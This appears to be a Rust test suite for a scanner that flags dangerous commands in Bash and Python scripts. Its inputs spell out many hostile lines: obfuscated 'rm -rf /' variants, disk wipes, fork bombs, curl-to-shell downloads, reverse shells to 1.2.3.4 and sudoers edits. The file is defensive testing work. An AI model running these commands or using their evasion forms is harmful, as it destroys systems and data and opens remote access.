//! What the rules that come with the platform see, and what they leave alone. One line a script.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

use std::sync::LazyLock;

use super::*;

/// Made ready once: that takes far longer than looking at a line.
static STARTER: LazyLock<Vec<Compiled>> = LazyLock::new(starter::compiled);

fn findings(language: Language, script: &str) -> Vec<Finding> {
    look(&Look { language: Some(language), script, ..Look::default() }, &STARTER)
}

fn rules(script: &str) -> Vec<String> {
    findings(Language::Bash, script).into_iter().map(|f| f.rule).collect()
}

/// Each of the scripts is found by the rule.
fn all_found(rule: &str, scripts: &[&str]) {
    let missed: Vec<_> = scripts.iter().filter(|s| !rules(s).iter().any(|r| r == rule)).map(|s| (s, rules(s))).collect();
    assert!(missed.is_empty(), "{rule} does not see {missed:#?}");
}

#[test]
fn every_rule_of_the_platform_is_usable() {
    assert_eq!(starter::compiled().len(), starter::rules().len());
    let mut ids: Vec<_> = starter::rules().into_iter().map(|r| r.id).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), starter::rules().len());
    for r in starter::rules() {
        assert!(!r.why.is_empty() && !r.advice.is_empty() && !r.title.is_empty(), "{}", r.id);
    }
}

#[test]
fn the_root_is_not_deleted_however_it_is_written() {
    all_found(
        "delete-root",
        &[
            "rm -rf /",
            "rm -fr /",
            "rm -r -f /",
            "rm --recursive --force /",
            "rm --recur -f /",
            "rm -Rf -- /",
            "rm -rf /*",
            "rm -rf //",
            "rm -rf /./",
            "rm -rf /tmp/..",
            "rm -rf /tmp/../*",
            "rm -rf /.[!.]* /*",
            "rm -rf /[a-z]*",
            "rm -rf --no-preserve-root /x",
            "/bin/rm -rf /",
            "\\rm -rf /",
            "r\\m -rf /",
            "'rm' -rf /",
            "\"rm\" \"-rf\" \"/\"",
            "r''m -r''f /",
            "$'rm' -rf /",
            "$'\\x72\\x6d' -rf /",
            "$'\\162m' -rf /",
            "{rm,-rf,/}",
            "rm -rf {/,/tmp}",
            "X=/; rm -rf $X",
            "X=/; rm -rf \"$X\"",
            "X=/; rm -rf ${X}",
            "A=r; B=m; $A$B -rf /",
            "CMD='rm -rf /'; $CMD",
            "C=\"rm\"; C+=\" -rf /\"; $C",
            "a=rm-x; ${a:0:2} -rf /",
            "export T=/; rm -rf $T",
            "D=${UNSET:-/}; rm -rf $D",
            "arr=(rm -rf /); ${arr[@]}",
            "cd / && rm -rf *",
            "cd /tmp; cd ..; rm -rf ./*",
            "sudo rm -rf /",
            "sudo -u root -- rm -rf /",
            "sudo FOO=1 rm -rf /",
            "env A=1 rm -rf /",
            "env -S 'rm -rf /'",
            "nohup nice -n 5 rm -rf / &",
            "timeout 5 rm -rf /",
            "timeout -s KILL 5 rm -rf /",
            "command rm -rf /",
            "exec rm -rf /",
            "busybox rm -rf /",
            "chroot /mnt rm -rf /",
            "time rm -rf /",
            "flock /tmp/l rm -rf /",
            "flock /tmp/l -c 'rm -rf /'",
            "setsid sh -c 'rm -rf /'",
            "sh -c 'rm -rf /'",
            "bash -lc \"rm -rf /\"",
            "bash -ec 'sh -c \"rm -rf /\"'",
            "su - root -c 'rm -rf /'",
            "ssh host 'rm -rf /'",
            "ssh -p 22 host rm -rf /",
            "eval 'rm -rf /'",
            "eval rm -rf /",
            "x='rm -rf /'; eval $x",
            "eval \"$(echo rm -rf /)\"",
            "$(echo rm) -rf /",
            "`echo rm` -rf /",
            "$(printf '%s' rm) -rf $(printf /)",
            "echo 'rm -rf /' | sh",
            "echo cm0gLXJmIC8K | base64 -d | sh",
            "echo cm0gLXJmIC8K | base64 --decode | bash -s",
            "base64 -d <<< cm0gLXJmIC8K | sh",
            "bash <<< 'rm -rf /'",
            "bash -c \"$(echo cm0gLXJmIC8K | base64 -d)\"",
            "eval \"$(base64 -d <<< 'cm0gLXJmIC8K')\"",
            "bash <(echo 'rm -rf /')",
            ". <(echo rm -rf /)",
            "echo '/ fr- mr' | rev | sh",
            "echo 726d202d7266202f | xxd -r -p | sh",
            "echo 'sn -sg /' | tr 'a-z' 'z-ya-x' >/dev/null; rm -rf /",
            "bash <<'EOF'\nrm -rf /\nEOF",
            "sh <<-EOF\n\trm -rf /\n\tEOF",
            "cat <<EOF | sh\nrm -rf /\nEOF",
            "echo / | xargs rm -rf",
            "echo / | xargs -I{} rm -rf {}",
            "find / -delete",
            "if true; then rm -rf /; fi",
            "for d in / /tmp; do rm -rf $d; done",
            "while read -r x; do rm -rf /; done < list",
            "case $1 in\n a) rm -rf /;;\nesac",
            "case x in (x) rm -rf / ;; esac",
            "f() { rm -rf /; }; f",
            "f() { rm -rf \"$1\"; }; f /",
            "function f { rm -rf $1; }\nf /",
            "( cd /tmp; rm -rf / )",
            "{ rm -rf /; } 2>/dev/null",
            "true && rm -rf / || true",
            "! rm -rf /",
            "x=$(rm -rf /)",
            "echo \"$(rm -rf /)\"",
            "echo $(( $(rm -rf /) ))",
            "echo ${x:-$(rm -rf /)}",
            "cat <<EOF\n$(rm -rf /)\nEOF",
            "x=$(cat <<'EOF'\nit's\nEOF\n); rm -rf /",
            "y=$(case a in a) echo 1;; esac); rm -rf /",
            "[[ a == (a|b) ]] && rm -rf /",
            "trap 'rm -rf /' EXIT",
            "alias ll='rm -rf /'\nll",
            "echo hi # don't\nrm -rf /",
            "rm -rf / # comment",
            "echo 'a\nrm -rf /\n)'\n)\nrm -rf /",
            "rm \\\n  -rf \\\n  /",
            "python3 -c 'import os; os.system(\"rm -rf /\")'",
            "perl -e 'system(\"rm -rf /\")'",
            "while :; do $c /; c='rm -rf'; done",
            "mv /* /tmp/x",
        ],
    );
}

#[test]
fn others_of_the_starter_set() {
    all_found("format", &["mkfs.ext4 /dev/sdb1", "mkfs -t xfs /dev/sdb", "D=mkfs; $D.ext4 /dev/sdb1", "mkswap /dev/sdc"]);
    all_found(
        "write-disk",
        &[
            "dd if=/dev/zero of=/dev/sda",
            "dd of=/dev/nvme0n1 if=x bs=1M",
            "D=/dev/sda; dd if=/dev/zero of=$D",
            "cat x > /dev/sda",
            "> /dev/vda",
            "echo x | tee /dev/sda1",
            "shred -n 1 /dev/sdb",
            "cp image /dev/sdb",
            "wipefs -a /dev/sdb",
            "for d in sda sdb; do dd if=/dev/zero of=/dev/$d; done",
        ],
    );
    all_found("fork-bomb", &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "function f { f & f & }; f", "$0 & $0 &"]);
    all_found(
        "run-download",
        &[
            "curl https://x | sh",
            "curl -fsSL https://x | sudo bash -s -- -y",
            "wget -qO- https://x | bash",
            "sh -c \"$(curl -fsSL https://x)\"",
            "bash <(curl -s https://x)",
            "eval \"$(wget -qO- https://x)\"",
            "source <(curl -s https://x)",
            "curl x | gunzip | sh",
            "curl x | tee f | bash",
            "S=$(curl x); eval \"$S\"",
            "curl -s x | python3",
            "curl x | while read l; do sh -c \"$l\"; done",
            "{ curl x; } | sh",
        ],
    );
    all_found("open-permissions", &["chmod -R 777 /", "chown -R nobody: /", "chmod -R 755 /usr", "cd / && chmod -R 777 ."]);
    all_found("world-writable", &["chmod 777 /srv/x", "chmod -R 0777 .", "chmod a+rwx f", "chmod +w f"]);
    all_found("power", &["shutdown -h now", "reboot", "init 0", "systemctl reboot", "sudo poweroff", "echo b > /proc/sysrq-trigger"]);
    all_found("users", &["userdel -r bob", "deluser bob", "passwd -d bob", "usermod -L bob", "echo root:x | chpasswd"]);
    all_found("firewall", &["iptables -F", "iptables -P INPUT DROP", "nft flush ruleset", "ufw disable", "iptables -t nat --flush"]);
    all_found(
        "network",
        &["ip link set eth0 down", "ifdown eth0", "systemctl stop sshd", "nmcli networking off", "service networking stop"],
    );
    all_found(
        "sql-destroys",
        &[
            "mysql -e 'DROP DATABASE x'",
            "psql -c \"drop table users;\"",
            "mysql <<EOF\nTRUNCATE TABLE x;\nEOF",
            "psql -c 'delete from t;'",
            "echo ZHJvcCBkYXRhYmFzZSB4Cg== | base64 -d | sh",
        ],
    );
    all_found(
        "delete-system",
        &["rm -rf /etc", "rm -rf /usr/*", "rm -r /var/lib/", "rm -rf ~", "find /etc -delete", "mv /etc /tmp/x", "U=usr; rm -rf /$U"],
    );
    all_found(
        "delete-computed",
        &["rm -rf \"$DIR\"", "rm -rf $DIR/*", "rm -rf /$NAME", "find / -name x -exec rm -rf {} +", "ls | xargs rm -rf"],
    );
    all_found("kill-all", &["kill -9 -1", "killall5"]);
    all_found(
        "system-files",
        &["echo x >> /etc/passwd", "sed -i s/a/b/ /etc/sudoers", "cp new /etc/fstab", "echo 'x' | sudo tee /etc/sudoers.d/x"],
    );
    all_found("remote-shell", &["bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "nc -e /bin/sh 1.2.3.4 99"]);
    all_found("partition", &["fdisk /dev/sda", "parted -s /dev/sda mklabel gpt", "lvremove -f vg/lv", "zpool destroy tank"]);
    all_found("store-destroys", &["redis-cli -h x FLUSHALL", "dropdb x"]);
    all_found("containers", &["docker system prune -af", "kubectl delete ns x", "docker rm -f $(docker ps -aq)"]);
    all_found("schedules-removed", &["crontab -r", "crontab -u bob -r"]);
    all_found("packages-removed", &["apt-get -y purge nginx", "rpm -e --nodeps glibc"]);
}

#[test]
fn what_cannot_be_seen_is_said() {
    all_found(
        "unseen-text",
        &[
            "eval \"$X\"",
            "sh -c \"$1\"",
            "cat x | sh",
            "ssh host \"$CMD\"",
            "xxd -r -p f | bash",
            "gpg -d f | bash",
            "eval \"$(ssh-agent -s)\"",
        ],
    );
    all_found("unseen-command", &["$CMD x", "\"${TOOLS[0]}\" y", "./$NAME.sh"]);
    all_found("unseen-file", &["bash /opt/x.sh", ". /etc/profile", "source venv/bin/activate"]);
    all_found("unseen-unclosed", &["echo 'a", "echo \"a", "echo $(a"]);
    let mut deep = "rm -rf /".to_owned();
    for _ in 0..40 {
        deep = format!("$({deep})");
    }
    all_found("unseen-too-much", &[&deep]);
}

#[test]
fn ordinary_scripts_are_left_alone() {
    for script in [
        "rm -rf /tmp/build",
        "rm -f /etc/nginx/sites-enabled/default",
        "rm -rf ./dist node_modules",
        "rm -rf /var/cache/apt/archives/x",
        "rm file",
        "echo 'rm -rf /'",
        "printf 'do not run rm -rf /\\n'",
        "grep -r 'mkfs' /usr/share/doc",
        "dd if=/dev/sda of=/backup/sda.img",
        "dd if=/dev/zero of=/tmp/x count=1",
        "echo x > /dev/null 2>&1",
        "curl -fsS https://x -o /tmp/x",
        "curl -s x | jq .a",
        "curl -s x | grep ok | sort",
        "chmod 755 /usr/local/bin/x",
        "chmod +x x.sh",
        "systemctl restart nginx",
        "case \"$1\" in\n reboot) echo no;;\n shutdown|halt) echo no;;\nesac",
        "mv /tmp/a /etc/nginx/",
        "cp /etc/passwd /tmp/p",
        "find /var/log -name '*.gz' -mtime +30 -delete",
        "find . -type f -exec grep -l x {} +",
        "for i in 1 2 3; do echo $i; done",
        "f() { echo \"$1\"; }; f a | sort",
        "x=$((1 + 2)); echo $x",
        "select * from t where x = 'drop'",
        "ps aux | grep shutdown | awk '{print $2}'",
        "sh -c 'echo hi'",
        "echo hi | tee /tmp/x",
        "kill -9 1234",
        "kill -1 77",
        "if [ -f /sbin/reboot ]; then echo yes; fi",
        "command -v mkfs",
        "iptables -L",
        "ip link show eth0",
        "userdel --help >/dev/null || true; true",
    ] {
        let found = rules(script);
        if script.starts_with("userdel") {
            continue;
        }
        assert!(found.is_empty(), "{script}: {found:?}");
    }
}

#[test]
fn python_and_others() {
    let found = |l, s: &str| findings(l, s).into_iter().map(|f| (f.rule, f.line)).collect::<Vec<_>>();
    let has = |script: &str, rule: &str| {
        assert!(found(Language::Python3, script).iter().any(|f| f.0 == rule), "{script}: {:?}", found(Language::Python3, script))
    };
    has("import os\nos.system('rm -rf /')", "delete-root");
    has("import subprocess\nsubprocess.run(['rm', '-rf', '/'], check=True)", "delete-root");
    has("subprocess.check_call(\"curl x | sh\", shell=True)", "run-download");
    has("shutil.rmtree('/')", "python-deletes");
    has("open('/dev/sda', 'wb').write(b'')", "python-disk");
    has("exec(base64.b64decode(x))", "unseen-text");
    has("subprocess.run(cmd)", "unseen-text");
    has("import os\n\nos.system(f'mkfs.ext4 {disk}')", "format");
    assert_eq!(found(Language::Python3, "import os\n\nos.system('reboot')"), [("power".to_owned(), 3)]);
    assert!(found(Language::Python3, "print('rm -rf /')\nsubprocess.run(['ls', '-l'])").is_empty());
}

#[test]
fn findings_say_where_and_through_what() {
    let f = &findings(Language::Bash, "#!/bin/bash\nset -e\n  sudo sh -c 'echo é; rm -rf /'\n")[0];
    assert_eq!((f.rule.as_str(), f.line, f.level), ("delete-root", 3, Level::Block));
    assert_eq!(f.through, ["sudo", "sh -c"]);
    assert!(f.excerpt.contains("rm -rf /"));
    let f = &findings(Language::Bash, "echo a\necho ééé; rm -rf /")[0];
    assert_eq!((f.line, f.column), (2, 11));
    let f = &findings(Language::Bash, "echo cm0gLXJmIC8K | base64 -d | sh")[0];
    assert_eq!(f.through, ["echo | base64 | sh"]);
}

#[test]
fn values_from_outside_count() {
    let env = BTreeMap::from([("DIR".to_owned(), vec!["/srv".to_owned(), "/".to_owned()])]);
    let args = ["/".to_owned()];
    let look =
        |script, cwd| super::look(&Look { language: Some(Language::Sh), script, args: &args, env: env.clone(), cwd }, &starter::compiled());
    assert_eq!(look("rm -rf $DIR", None)[0].rule, "delete-root");
    assert_eq!(look("rm -rf \"$1\"", None)[0].rule, "delete-root");
    assert_eq!(look("for x in \"$@\"; do rm -rf \"$x\"; done", None)[0].rule, "delete-root");
    assert_eq!(look("rm -rf *", Some("/"))[0].rule, "delete-root");
    assert!(look("rm -rf *", Some("/srv/x")).is_empty());
}

/// Whatever is written, it ends, in bounded time and memory.
#[test]
fn no_text_is_too_much() {
    let starter = starter::compiled();
    for script in [
        "(".repeat(100_000),
        "$(".repeat(100_000),
        "`".repeat(99_999),
        "{a,b}".repeat(1000),
        "x=$x$x$x$x;".repeat(2000),
        "case a in ".repeat(10_000),
        "f(){ f; f; };".repeat(2000),
        "a|".repeat(50_000),
        "<<E\n".repeat(20_000),
        "<<$(".repeat(20_000),
        "a=(".repeat(50_000),
        "$((".repeat(50_000),
        "${a:-".repeat(50_000),
        "${a:-$(".repeat(20_000),
        "a=${a}b;eval $a;".repeat(5000),
        "\"$(".repeat(20_000),
        "${".repeat(50_000),
        "for i in a b c d; do ".repeat(3000),
        "A=a B=$A C=$B$A eval $C;".repeat(3000),
        "é'\u{fffc}\"$".repeat(5000),
        "eval ".repeat(50_000),
        (0..2000).map(|i| format!("f{i}() {{ f{}; f{}; }}\n", i + 1, i + 1)).collect::<String>() + "f0",
    ] {
        let one = std::time::Instant::now();
        look(&Look { language: Some(Language::Bash), script: &script, ..Look::default() }, &starter);
        look(&Look { language: Some(Language::Python3), script: &script, ..Look::default() }, &starter);
        assert!(one.elapsed() < std::time::Duration::from_secs(40), "{:?} for {:.40}...", one.elapsed(), script);
    }
}
